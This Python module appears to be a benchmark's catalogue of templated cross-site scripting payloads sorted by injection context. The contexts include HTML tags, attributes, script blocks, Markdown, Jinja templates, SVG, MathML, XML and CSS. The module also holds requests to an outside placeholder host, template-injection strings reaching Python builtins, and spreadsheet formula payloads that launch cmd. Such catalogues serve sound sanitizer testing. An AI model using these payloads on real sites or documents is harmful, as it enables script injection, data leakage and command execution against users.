"""The places of scripts, addresses and requests, as templates: one per line, by the kind of the payload.

A pair of signs is replaced by JavaScript: «» as it is; ‹› encoded for an attribute in quotation marks; ⟦⟧ for
an attribute without; ⸨⸩ for an address; [‘’] without apostrophes. № is the payload's number, ¶ a line break.
"""

from __future__ import annotations

from bench.payloads.calls import ELSEWHERE

ELEMENTS = """\
<script>«»</script>
<ScRiPt>«»</sCrIpT>
<script\t>«»</script >
<script/x>«»</script/x>
<script type=module>«»</script>
<script type="text/javascript;x" type=x></script><script>«»</script>
<script src="data:text/javascript,⸨⸩"></script>
<script src=data:text/javascript,⸨⸩></script>
<svg><script>‹›</script></svg>
<img src=x onerror="‹›">
<img src=x onerror='‹›'>
<img/src="x"/onerror=⟦⟧>
<IMG SRC=x ONERROR="‹›">
<image src=x onerror="‹›">
<img src onerror="‹›" src=
<img \t\fsrc=x onerror¶="‹›">
<img src="x` `<x" onerror="‹›">
<img src=x:x onerror="‹›" <b>
<img srcset=x onerror="‹›">
<picture><source srcset=x><img onerror="‹›"></picture>
<svg onload="‹›">
<svg/onload=⟦⟧>
<body onload="‹›">
<body onpageshow="‹›">
<iframe src="javascript:‹›"></iframe>
<iframe srcdoc="<script>‹›</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=&quot;‹›&quot;&gt;"></iframe>
<iframe onload="‹›"></iframe>
<iframe src="data:text/html,<script>⸨⸩</script>"></iframe>
<object data="data:text/html,<script>⸨⸩</script>"></object>
<object data=x onerror="‹›"></object>
<video src=x onerror="‹›"></video>
<video><source onerror="‹›"></video>
<audio src=x onerror="‹›"></audio>
<link rel=stylesheet href=x onerror="‹›">
<style onload="‹›"></style>
<style>@import 'x';</style><style onload="‹›">p{}</style>
<details open ontoggle="‹›">x</details>
<details ontoggle="‹›"><summary>x</summary>y</details>
<input autofocus onfocus="‹›">
<select autofocus onfocus="‹›"></select>
<textarea autofocus onfocus="‹›"></textarea>
<button onclick="‹›">x</button>
<a href="javascript:‹›">x</a>
<a href=" &#1;JaVaScRiPt:‹›">x</a>
<a href="#" onclick="‹›">x</a>
<a tabindex=1 onfocus="‹›">x</a>
<b onmouseover="‹›">x</b>
<b onpointerenter="‹›">x</b>
<div contenteditable onfocus="‹›">x</div>
<xss onmouseenter="‹›" style=display:block>x
<form action="javascript:‹›"><button>x</button></form>
<form><button formaction="javascript:‹›">x</button></form>
<form id=f9></form><button form=f9 formaction="javascript:‹›">x</button>
<form><input type=image src=x onerror="‹›"></form>
<p onanimationstart="‹›">x</p>
<noscript><p title="</noscript><img src=x onerror=⟦⟧>">
<xmp><p title="</xmp><svg/onload=⟦⟧>">
<noembed><p title="</noembed><img src=x onerror=⟦⟧>">
<noframes><p title="</noframes><img src=x onerror=⟦⟧>">
<div><template shadowrootmode=open><img src=x onerror="‹›"></template></div>
<table><td background=x><img src=x onerror="‹›">
<select><option><svg><script>‹›</script></svg>
<!--><img src=x onerror="‹›">-->
<!-- --!><img src=x onerror="‹›">-->
<!x><img src=x onerror="‹›">
<?xml version="1.0"><img src=x onerror="‹›">?>
</ x><img src=x onerror="‹›">
<![CDATA[><img src=x onerror="‹›">]]>
</p></main></body></html><img src=x onerror="‹›">
</p></div></section></blockquote></li></ul><script>«»</script>"""

ASKING = f"""\
<img src="//{ELSEWHERE}/№">
<img srcset="http://{ELSEWHERE}/№ 2x">
<input type=image src="http://{ELSEWHERE}/№">
<link rel=stylesheet href="http://{ELSEWHERE}/№">
<link rel=preload as=image href="http://{ELSEWHERE}/№">
<script src="//{ELSEWHERE}/№"></script>
<iframe src="//{ELSEWHERE}/№"></iframe>
<object data="http://{ELSEWHERE}/№"></object>
<embed src="http://{ELSEWHERE}/№">
<video poster="http://{ELSEWHERE}/№"></video>
<video src="http://{ELSEWHERE}/№"></video>
<audio src="http://{ELSEWHERE}/№"></audio>
<video><track default kind=captions src="http://{ELSEWHERE}/№"></video>
<style>@import '//{ELSEWHERE}/№';</style>
<style>html {{ background: url(//{ELSEWHERE}/№) }}</style>
<b style="background: url(//{ELSEWHERE}/№)">x</b>
<table background="http://{ELSEWHERE}/№"><td>x</table>
<body background="http://{ELSEWHERE}/№">
<svg><image href="http://{ELSEWHERE}/№"/></svg>
<svg><feImage href="http://{ELSEWHERE}/№"/></svg>
<base href="http://{ELSEWHERE}/"><img src="№">
<meta http-equiv=refresh content="0;url=http://{ELSEWHERE}/№">
<iframe srcdoc="<meta http-equiv=refresh content='0;url=http://{ELSEWHERE}/№'>"></iframe>"""

ENDS = {
    "textarea": ["</textarea>", "</TEXTAREA >", "</textarea/x>"],
    "style": ["</style>", "red}</style >"],
    "comment": ["-->", "--!>"],
}
AFTER_AN_END = ["<script>«»</script>", '<img src=x onerror="‹›">', "<svg/onload=⟦⟧>"]

IN_ATTRIBUTE = """\
{q} autofocus onfocus={q}‹›
{q}autofocus/onfocus={q}‹›
{q} onmouseover={q}‹›{q} x={q}
{q}\tonclick¶={q}‹›
{q} type=image src=x onerror={q}‹›
{q}><img src=x onerror={q}‹›
{q}><script>«»</script>
{q}/><svg onload={q}‹›
{q} style={q}display:block{q} onpointerover={q}‹›
{q} popover ontoggle=⟦⟧ onfocus=⟦⟧ x={q}"""

IN_BARE_ATTRIBUTE = """\
x onmouseover=⟦⟧
x autofocus onfocus="‹›"
x\tonclick=⟦⟧
x type=image src=x onerror=⟦⟧
x><img src=x onerror=⟦⟧>
><script>«»</script>"""

ADDRESSES = """\
javascript:⸨⸩
JavaScript:⸨⸩
java\tscript:⸨⸩
java¶script:⸨⸩
javascript\t:⸨⸩
 javascript:⸨⸩
\x01javascript:⸨⸩
javascript://x/%0a⸨⸩
javascript://https://example.org/%0d⸨⸩
javascript:/*https://example.org/*/⸨⸩"""

IN_SCRIPT = {
    '"script"': ['";«»;//', '"-(«»)-"', '"+(«»)+"', "</script><script>«»</script>"],
    "'script'": ["';[‘’];//", "'-([‘’])-'", "</script><svg/onload=⟦⟧>"],
    "marks escaped": ['\\";«»;//', '\\"-(«»)//'],
    "`script`": ["${«»}", "`;«»;//", "${`${«»}`}", "`-(«»)-`"],
    "//script": ["\u2028«»", "\u2029«»", "\r«»", "\n«»//", "-->\n«»"],
}
IN_DATA = [
    "</script><script>«»</script>",
    "</SCRIPT ><script>«»</script>",
    "</script/x><img src=x onerror=⟦⟧>",
    "</script ><svg/onload=⟦⟧>",
    "<!--</script><script>«»</script>",
    "--></script><img src=x onerror='‹›'>",
    "]]></script><script>«»</script>",
]

IN_INDEX = """\
<img src=x onerror="‹›">
<img/src="x"/onerror=⟦⟧>
<svg/onload=⟦⟧>
<svg><animate onbegin=⟦⟧ attributeName=x dur=1s>
<iframe srcdoc="<script>‹›</script>"></iframe>
<iframe src="javascript:‹›"></iframe>
<video src=x onerror="‹›"></video>
<details open ontoggle="‹›">x</details>
<mark><img src=x onerror="‹›"></mark>
<a href="javascript:‹›">x</a>"""

IN_MARKDOWN = """\
[x](javascript:⸨⸩)
[x](<javascript:⸨⸩>)
[x](JAVASCRIPT:⸨⸩ "title")
[x](java&#115;cript:⸨⸩)
[x](javascript&colon;⸨⸩)
[x](&#x6A;avascript:⸨⸩)
[x][r]¶¶[r]: javascript:⸨⸩
[r]¶¶[r]: <javascript:⸨⸩> 'title'
[![x](y)](javascript:⸨⸩)
**[x](javascript:⸨⸩)**
> [x](javascript:⸨⸩)
- [x](javascript:⸨⸩)
# [x](javascript:⸨⸩)
x <img src=x onerror="‹›"> *y*
<div>¶¶<img src=x onerror="‹›">¶¶</div>
*x*<svg/onload=⟦⟧>
`x`<img src=x onerror="‹›">
\\<img src=x onerror="‹›"> <img src=x onerror="‹›">
<!-- x --><img src=x onerror="‹›">
<!-- x¶¶<img src=x onerror="‹›"> --> <img src=x onerror="‹›">
<![CDATA[ x ]]><img src=x onerror="‹›">
<? x ?><img src=x onerror="‹›">
<details open ontoggle="‹›"><summary>x</summary></details>"""
IN_PYTHON_MARKDOWN = """\
*x*{: onmouseover="‹›" }
**x**{: onclick="‹›" .c #own }
`x`{: onclick="‹›" }
[x](https://example.org/){: onclick="‹›" }
[x](https://example.org/){: href="javascript:‹›" }
![x](y){: onerror="‹›" }
x¶{: onmouseover="‹›" }
# x {: onmouseover="‹›" }
- x¶{: onmouseover="‹›" }
x[^1]¶¶[^1]: <img src=x onerror="‹›">
<div markdown="1">¶¶*x*{: onclick="‹›" }¶¶</div>"""
IN_COMMON_MARK = """\
<javascript:⸨⸩>
<JavaScript:⸨⸩>
![x](//{elsewhere}/№)
[x]¶¶[x]: javascript:⸨⸩"""

IN_TEMPLATE = """\
{{ "<img src=x onerror=⟦⟧>" }}
{{ '\\x3cimg src=x onerror=⟦⟧\\x3e' }}
{{ "%cscript>%s</script>" % (60, "«»") }}
{{ ["<svg/onload=⟦⟧>"]|join }}
{{ ("&lt;img src=x onerror=⟦⟧&gt;")|replace("&lt;", "<")|replace("&gt;", ">") }}
{% set x = "<script>«»</script>" %}{{ x|safe }}
{% for x in ["<script>"] %}{{ x }}«»</script>{% endfor %}
{%- if true -%}<script>«»</script>{%- endif -%}
{% macro x() %}<svg/onload=⟦⟧>{% endmacro %}{{ x() }}
{% raw %}<script>{% endraw %}«»</script>
{# x #}<script>«»</script>
{{ cycler.__init__.__globals__.__builtins__.chr(60) }}script>«»</script>
{{ lipsum.__globals__["os"].sep|replace("/", "<script>") }}«»</script>"""

SVG = """\
<svg><script>‹›</script></svg>
<svg><script href="data:text/javascript,⸨⸩" /></svg>
<svg><script xlink:href="data:text/javascript,⸨⸩" /></svg>
<svg><script><![CDATA[«»]]></script></svg>
<svg><a href="javascript:‹›"><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:‹›"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:‹›"/><text y=20>x</text></a></svg>
<svg><a><set attributeName=href to="javascript:‹›"/><text y=20>x</text></a></svg>
<svg><animate onbegin="‹›" attributeName=x dur=1s></svg>
<svg><set onbegin="‹›" attributeName=x to=1></svg>
<svg><image href=x onerror="‹›"></svg>
<svg><foreignObject><img src=x onerror="‹›"></foreignObject></svg>
<svg><desc><img src=x onerror="‹›"></desc></svg>
<svg><title><script>«»</script></title></svg>
<svg><style><img src=x onerror="‹›"></style></svg>
<svg></p><style><a id="</style><img src=x onerror=⟦⟧>">
<svg><rect width=9 height=9 onclick="‹›"/></svg>
<svg><g onmouseover="‹›"><text y=20>x</text></g></svg>"""

MATHML = """\
<math><mtext><img src=x onerror="‹›"></mtext></math>
<math><mi><script>«»</script></mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror="‹›"></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg onload="‹›"></svg></annotation-xml></math>
<math><mi onmouseover="‹›">x</mi></math>
<math><maction actiontype=toggle onclick="‹›"><mi>x</mi><mi>y</mi></maction></math>
<math><p><img src=x onerror="‹›"></p></math>"""

OF_XML = """\
<script xmlns="http://www.w3.org/1999/xhtml">‹›</script>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">‹›</h:script>
<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="‹›"/>
<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:‹›"/>
<h:body xmlns:h="http://www.w3.org/1999/xhtml"><h:script>‹›</h:script></h:body>
<h:script xmlns:h="http://www.w3.org/1999/xhtml"><![CDATA[«»]]></h:script>
<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="x" onerror="‹›"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="‹›"/>
<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>‹›</s:script></s:svg>
<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:set attributeName="x" onbegin="‹›"/></s:svg>"""

IN_STYLE = """\
red; background: url(//{elsewhere}/№)
red; background: url('http://{elsewhere}/№')
red; background: image-set('http://{elsewhere}/№' 1x)
red; background: \\75rl(http://{elsewhere}/№)
red; list-style: url(//{elsewhere}/№); display: list-item
red; cursor: url(//{elsewhere}/№), auto; background: url(//{elsewhere}/№)
red; border-image: url("http://{elsewhere}/№")
red; --x: url(//{elsewhere}/№); background: var(--x)
red/**/;background:url(//{elsewhere}/№)"""

# What ran in browsers of other days, or in other encodings.
OF_OLD = """\
<p style="width: expression(«»)">x</p>
<p style="-moz-binding: url(//{elsewhere}/№#x)">x</p>
<p style="behavior: url(//{elsewhere}/№)">x</p>
<img src="javascript:‹›">
<img dynsrc="javascript:‹›">
<embed src="javascript:‹›">
<marquee onstart="‹›">x</marquee>
<math><mtext><table><mglyph><style><img src=x onerror="‹›">
<bgsound src="javascript:‹›">
<table background="javascript:‹›"><td>x</table>
<a href="vbscript:ran №">x</a>
<xml id=x><x><![CDATA[<img src=x onerror=⟦⟧>]]></x></xml>
<isindex action="javascript:‹›" type=image>
<img src=x:alert(alt) alt=№ onerror=eval(src.slice(2)) id=ran№>
<link rel=import href="//{elsewhere}/№#import">
<menu id=x><menuitem onclick="‹›">
+ADw-script+AD4-ran(№)+ADw-/script+AD4-
¼script¾ran(№)¼/script¾
\x1b$B<script>ran(№)</script>\x1b(B
<%00script>ran(№)</%00script>
[[javascript:ran(№)]]
{{constructor.constructor('ran(№)')()}}
${ran(№)}
#{ran(№)}
<%= ran(№) %>
<!--#exec cmd="ran №" -->
<?php ran(№) ?>
{{{ ran(№) }}}
{{ ran(№) }}"""

WITHIN_XML = '<h:script xmlns:h="http://www.w3.org/1999/xhtml">‹›</h:script>'

FORMULAS = """\
=HYPERLINK("http://{elsewhere}/№","x")
=WEBSERVICE("http://{elsewhere}/№")
=IMPORTXML("http://{elsewhere}/№","//a")
=cmd|' /C calc №'!A0
+cmd|' /C calc №'!A0
-2+3+cmd|' /C calc №'!A0
@SUM(№+9)*cmd|' /C calc'!A0
=№+1
-№
＝№+1
＋№
－№
＠SUM(№)
"=№+1
'=№+1
x;=№+1
x; @SUM(№)
"x";"=№+1"
x\t=№+1
=DDE("cmd";"/C calc №";"x")
=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!№"""
